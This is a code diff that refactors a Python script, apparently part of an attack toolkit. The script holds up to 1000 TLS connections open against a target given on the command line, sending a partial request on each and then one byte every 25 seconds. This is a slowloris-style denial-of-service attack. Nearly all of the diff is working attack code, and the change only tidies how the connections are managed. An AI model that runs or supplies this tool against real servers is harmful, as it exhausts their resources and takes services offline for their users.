@@ -2,11 +2,9 @@
 
 from __future__ import annotations
 
-import contextlib
 import socket
-import time
 
-from misc.attack.target import Target, again_and_again, from_command_line, refused_or_cut
+from misc.attack.target import Crowd, Target, again_and_again, from_command_line
 
 CONNECTIONS = 1000
 BYTE_S = 25.0
@@ -17,22 +15,19 @@ REQUEST = (
 
 
 def attack(target: Target) -> None:
-    """Keep as many connections as there may be, and make new ones for those that were cut."""
-    open_sockets: dict[socket.socket, float] = {}
-    with contextlib.ExitStack() as stack:
-        for _ in again_and_again(target, 0.002):
-            if len(open_sockets) < CONNECTIONS:
-                with refused_or_cut():
-                    connection = stack.enter_context(target.connect_tls())
-                    connection.sendall(REQUEST)
-                    open_sockets[connection] = time.monotonic()
-            now_s = time.monotonic()
-            due = [one for one, sent_s in open_sockets.items() if now_s - sent_s > BYTE_S]
-            for each in due:
-                del open_sockets[each]
-                with refused_or_cut():
-                    each.sendall(b"x")
-                    open_sockets[each] = now_s
+    """Keep as many connections as there may be."""
+
+    def make(number: int) -> socket.socket:
+        connection = target.connect_tls()
+        connection.sendall(REQUEST)
+        return connection
+
+    crowd = Crowd(make, CONNECTIONS)
+    for turn in again_and_again(target, 0.01):
+        crowd.fill()
+        crowd.say(b"x", BYTE_S)
+        if not turn % 100:
+            crowd.forget_cut()
 
 
 if __name__ == "__main__":
